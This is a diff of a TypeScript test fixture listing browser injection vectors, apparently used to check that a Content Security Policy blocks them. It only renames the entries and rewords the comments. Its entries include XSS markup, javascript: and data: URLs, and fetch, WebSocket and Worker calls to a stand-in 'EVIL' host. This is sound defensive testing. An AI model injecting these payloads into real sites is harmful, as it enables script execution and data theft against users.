@@ -1,6 +1,6 @@
 /**
- * A way to make a page run foreign code, or load from or send to another site. The attack works if `hit` is set or the other site
- * gets a request.
+ * An attempt to make a page run foreign code, load something from another site or send something to another site. The attack has
+ * worked if the page receives the message `hit` or the other site receives a request.
  */
 export interface Attack {
   readonly name: string;
@@ -12,29 +12,32 @@ export interface Attack {
   readonly click?: string;
 }
 
-/** The script that each attack tries to run. */
+/** The script that injected markup tries to run. */
 const hit = `top.postMessage('hit','*')`;
 
 export const attacks: readonly Attack[] = [
   { name: 'an inline script', markup: `<script>${hit}</script>` },
   { name: 'an inline module', markup: `<script type="module">${hit}</script>` },
-  { name: 'a script of another site', markup: '<script src="EVIL/x.js"></script>' },
-  { name: 'a module of another site', markup: '<script type="module" src="EVIL/x.js"></script>' },
-  { name: 'a script in a data address', markup: `<script src="data:text/javascript,${hit}"></script>` },
-  { name: 'an error handler', markup: `<img src="/icon.svg?none=" onload="${hit}" onerror="${hit}" alt="">` },
-  { name: 'a handler in a drawing', markup: `<svg onload="${hit}"></svg>` },
+  { name: 'a script from another site', markup: '<script src="EVIL/x.js"></script>' },
+  { name: 'a module from another site', markup: '<script type="module" src="EVIL/x.js"></script>' },
+  { name: 'a script in a data: URL', markup: `<script src="data:text/javascript,${hit}"></script>` },
   {
-    name: 'a toggle handler',
+    name: 'an event handler on an image',
+    markup: `<img src="/icon.svg?none=" onload="${hit}" onerror="${hit}" alt="">`,
+  },
+  { name: 'an event handler on an SVG', markup: `<svg onload="${hit}"></svg>` },
+  {
+    name: 'an event handler on a details element',
     markup: `<details open ontoggle="${hit}"><summary>x</summary></details>`,
   },
-  { name: 'a link to a script', markup: `<a id="press" href="javascript:${hit}">x</a>`, click: '#press' },
-  { name: 'a frame of a script', markup: `<iframe src="javascript:${hit}"></iframe>` },
+  { name: 'a link with a javascript: URL', markup: `<a id="press" href="javascript:${hit}">x</a>`, click: '#press' },
+  { name: 'a frame with a javascript: URL', markup: `<iframe src="javascript:${hit}"></iframe>` },
   { name: 'a frame with an inline document', markup: `<iframe srcdoc="<script>${hit}</script>"></iframe>` },
-  { name: 'a frame in a data address', markup: `<iframe src="data:text/html,<script>${hit}</script>"></iframe>` },
-  { name: 'a frame of another site', markup: '<iframe src="EVIL/x"></iframe>' },
+  { name: 'a frame with a data: URL', markup: `<iframe src="data:text/html,<script>${hit}</script>"></iframe>` },
+  { name: 'a frame that shows another site', markup: '<iframe src="EVIL/x"></iframe>' },
   { name: 'a different base address', markup: '<base href="EVIL/"><a id="press" href="x">x</a>', click: '#press' },
   {
-    name: 'a form to another site',
+    name: 'a form that is sent to another site',
     markup: '<form action="EVIL/x"><button id="press">x</button></form>',
     click: '#press',
   },
@@ -43,18 +46,18 @@ export const attacks: readonly Attack[] = [
     markup: '<form><button id="press" formaction="EVIL/x">x</button></form>',
     click: '#press',
   },
-  { name: 'an image of another site', markup: '<img src="EVIL/x" alt="">' },
-  { name: 'a style sheet of another site', markup: '<link rel="stylesheet" href="EVIL/x.css">' },
+  { name: 'an image from another site', markup: '<img src="EVIL/x" alt="">' },
+  { name: 'a style sheet from another site', markup: '<link rel="stylesheet" href="EVIL/x.css">' },
   { name: 'a style element that loads from another site', markup: '<style>body{background:url(EVIL/x)}</style>' },
   { name: 'a style attribute that loads from another site', markup: '<p style="background:url(EVIL/x)">x</p>' },
-  { name: 'an object of another site', markup: '<object data="EVIL/x"></object>' },
-  { name: 'an embed of another site', markup: '<embed src="EVIL/x">' },
-  { name: 'an audio file of another site', markup: '<audio preload="auto" src="EVIL/x"></audio>' },
+  { name: 'an object element from another site', markup: '<object data="EVIL/x"></object>' },
+  { name: 'an embed element from another site', markup: '<embed src="EVIL/x">' },
+  { name: 'an audio file from another site', markup: '<audio preload="auto" src="EVIL/x"></audio>' },
   { name: 'a preload from another site', markup: '<link rel="preload" as="image" href="EVIL/x">' },
   { name: 'eval', script: () => eval(`${'top'}.postMessage('hit','*')`) },
-  { name: 'a function created from text', script: () => new Function(`top.postMessage('hit','*')`)() },
+  { name: 'a function created from a string', script: () => new Function(`top.postMessage('hit','*')`)() },
   {
-    name: 'a timer that runs text',
+    name: 'a timer that runs a string as code',
     script: () => Reflect.apply(setTimeout, window, [`top.postMessage('hit','*')`, 0]),
   },
   { name: 'a request to another site', script: (evil) => fetch(`${evil}/x`, { mode: 'no-cors' }) },
@@ -62,31 +65,31 @@ export const attacks: readonly Attack[] = [
   { name: 'a socket to another site', script: (evil) => new WebSocket(`${evil.replace('http', 'ws')}/x`) },
   { name: 'a module loaded from another site', script: (evil) => import(/* @vite-ignore */ `${evil}/x.js`) },
   {
-    name: 'a worker created from text',
+    name: 'a worker created from a string',
     script: (evil) => new Worker(URL.createObjectURL(new Blob([`fetch('${evil}/x', {mode: 'no-cors'})`]))),
   },
   {
-    name: 'text as HTML (Trusted Types)',
+    name: 'a string assigned as HTML (Trusted Types)',
     script: () => {
       document.body.innerHTML = `<p id="sunk">x</p>`;
       if (document.querySelector('#sunk') !== null) postMessage('hit');
     },
   },
   {
-    name: 'text as additional HTML (Trusted Types)',
+    name: 'a string inserted as HTML (Trusted Types)',
     script: () => {
       document.body.insertAdjacentHTML('beforeend', `<p id="sunk">x</p>`);
       if (document.querySelector('#sunk') !== null) postMessage('hit');
     },
   },
   {
-    name: 'text parsed as a document (Trusted Types)',
+    name: 'a string parsed as a document (Trusted Types)',
     script: () => {
       if (new DOMParser().parseFromString('<p>x</p>', 'text/html').body.children.length > 0) postMessage('hit');
     },
   },
   {
-    name: 'text as a script’s address (Trusted Types)',
+    name: 'a string assigned as a script’s address (Trusted Types)',
     script: () => {
       const script = document.createElement('script');
       script.src = '/x.js';
